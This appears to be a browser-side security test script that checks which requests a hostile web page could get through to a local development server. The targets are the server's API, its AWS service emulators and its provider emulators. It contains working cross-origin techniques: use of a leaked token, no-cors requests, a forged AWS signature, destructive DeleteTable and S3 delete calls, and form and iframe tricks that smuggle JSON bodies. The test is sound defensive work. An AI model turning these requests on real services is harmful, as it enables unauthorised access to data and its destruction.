// What a web page can try against a local server. `targets` says where: a real attacker finds the ports by looking.
"use strict";

const read = [];
let tried = 0;

// Notes what a page could read of an answer. A refusal by the guard is nothing.
async function attempt(name, url, options, worth = () => true) {
  tried += 1;
  try {
    const answer = await fetch(url, { cache: "no-store", ...options });
    const text = await answer.text();
    if (answer.type !== "opaque" && answer.status !== 403 && worth(answer, text)) read.push(name);
  } catch {
    // The browser kept it from the page.
  }
}

const json = { "content-type": "application/json" };
const bearer = { ...json, authorization: `Bearer ${targets.token}` };
const actor = JSON.stringify({ actor: { name: "Eve", last_name: "Evil" }, expires_in: "PT1H" });
const api = `${targets.API}/v1/orgs/demo`;
const emulator = targets.providers.replace(/\/emulator$/, "");
const item = JSON.stringify({ TableName: "acredita" });

async function attack() {
  // The API: with a token that leaked, without, and without being asked first.
  await attempt("API health", `${targets.API}/health`, {});
  await attempt("API create", `${api}/identifications/agent`, { method: "POST", headers: bearer, body: actor }, (answer) => answer.status === 201);
  await attempt("API refusal with its request id", `${api}/identifications/agent`, { method: "POST", headers: json, body: actor },
    (answer) => answer.status === 401 && answer.headers.get("x-request-id") && answer.headers.get("www-authenticate"));
  await attempt("API close", `${api}/identifications/agent/${targets.admin}/close`, { method: "POST", mode: "no-cors", body: "x" });
  // The pages, whose codes and token are for their owner.
  for (const path of ["/", "/local/inbox", "/local/inbox?start=guessed", "/local/events"]) {
    await attempt(`page ${path}`, targets.API + path, {},
      (_, text) => text.includes("Bearer") || text.includes("messages") || text.includes("identification.created"));
    await attempt(`page ${path} as JSON`, targets.API + path, { headers: { accept: "application/json" } }, (_, text) => text.includes("messages"));
  }
  // The embedded AWS, with and without a preflight, with a forged signature, and by its bare operations.
  const forged = "AWS4-HMAC-SHA256 Credential=acredita-local/20261129/eu-west-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00";
  for (const [name, operations] of [
    ["DynamoDB", ["DynamoDB_20120810.Scan", "DynamoDB_20120810.UpdateItem", "DynamoDB_20120810.ListTables", "DynamoDB_20120810.DeleteTable"]],
    ["SQS", ["AmazonSQS.ReceiveMessage", "AmazonSQS.GetQueueAttributes", "AmazonSQS.SendMessage"]],
  ]) {
    await attempt(`${name} get`, targets[name], {});
    for (const operation of operations) {
      const headers = { "content-type": "application/x-amz-json-1.0", "x-amz-target": operation };
      await attempt(`${name} ${operation}`, targets[name], { method: "POST", headers, body: item });
      await attempt(`${name} ${operation}, forged`, targets[name], { method: "POST", headers: { ...headers, authorization: forged }, body: item });
      await attempt(`${name} ${operation} as text`, targets[name], { method: "POST", headers: { "content-type": "text/plain" }, body: item });
      await attempt(`${name} ${operation} unasked`, targets[name], { method: "POST", mode: "no-cors", body: item });
    }
  }
  await attempt("S3 list", `${targets.S3}/acredita-pictures?list-type=2`, {}, (answer) => answer.ok);
  await attempt("S3 upload", targets.upload, { method: "PUT", body: "a picture" }, (answer) => answer.ok);
  await attempt("S3 delete", `${targets.S3}/acredita-pictures/a`, { method: "DELETE" }, (answer) => answer.ok);
  // The emulators' switch.
  await attempt("emulator", `${emulator}/emulator`, {});
  await attempt("emulator scenario", `${emulator}/emulator/scenario/fraud`, { method: "PUT" });
  await attempt("emulator token", `${emulator}/google/token`, { method: "POST", mode: "no-cors", body: "x" });
  // By a name of the page's own that points to the server: the browser sends no preflight, as it is the same origin.
  for (const name of ["API", "DynamoDB", "SQS", "S3", "providers"]) {
    const { port } = new URL(targets[name]);
    tried += 1;
    const frame = document.createElement("iframe");
    // What is in the browser's cache is the page's own: it is to ask the server.
    frame.src = `http://${location.hostname}:${port}/?${crypto.getRandomValues(new Uint32Array(2)).join("")}`;
    document.body.append(frame);
    await new Promise((done) => { frame.onload = done; setTimeout(done, 1000); });
    try {
      const [{ responseStatus }] = frame.contentWindow.performance.getEntriesByType("navigation");
      if (responseStatus !== 403 && frame.contentDocument.body.textContent) read.push(`${name} in a frame`);
    } catch {
      // Another origin.
    }
    // A form, which navigates and needs no preflight either.
    tried += 1;
    const form = Object.assign(document.createElement("form"), { method: "post", enctype: "text/plain", action: targets[name] });
    form.append(Object.assign(document.createElement("input"), { name: '{"TableName":"acredita","a":"', value: '"}' }));
    frame.name = `f${port}`;
    form.target = frame.name;
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 200));
  }
}

attack().then(() => fetch(targets.report, { method: "POST", mode: "no-cors", body: JSON.stringify({ read, tried }) }));
